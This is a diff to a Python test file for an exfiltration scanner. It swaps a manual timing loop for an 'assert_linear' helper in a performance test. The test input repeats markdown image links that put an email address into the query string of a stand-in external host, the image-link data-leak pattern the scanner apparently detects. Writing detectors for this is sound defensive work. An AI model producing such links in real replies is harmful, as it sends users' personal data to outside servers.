@@ -2,13 +2,13 @@
 
 import base64
 import json
-import time
 
 import pytest
 from pydantic import ValidationError
 
 from shield.scanners.exfiltration import Exfiltration, ExfiltrationOptions
 from shield.types import Checkpoint, Severity
+from tests.growth import assert_linear
 from tests.scanners.answers import NOTHING, asked, subject
 
 USER = "Summarise my contract. I am anna.keller@example.org, IBAN DE89370400440532013000."
@@ -133,17 +133,11 @@ def test_what_is_no_host_is_refused_when_the_policy_is_read(host):
 
 
 def test_a_long_conversation_and_many_links_stay_linear():
-    def cost(size):
+    def work(size):
         text = (f"![x](https://e.example/?q={MAIL}) " * size)[: 40 * size]
-        best = float("inf")
-        for _ in range(3):
-            began = time.process_time()
-            ask(text, user=CONTRACT * (size // 4))
-            best = min(best, time.process_time() - began)
-        return best
+        return lambda: ask(text, user=CONTRACT * (size // 4))
 
-    cost(20)
-    assert cost(1_600) < 8 * cost(400) + 0.05
+    assert_linear(work, 400, 1_600, limit=8, slack=0.05)
 
 
 @pytest.mark.parametrize("kind", ["attacks", "near_miss"])
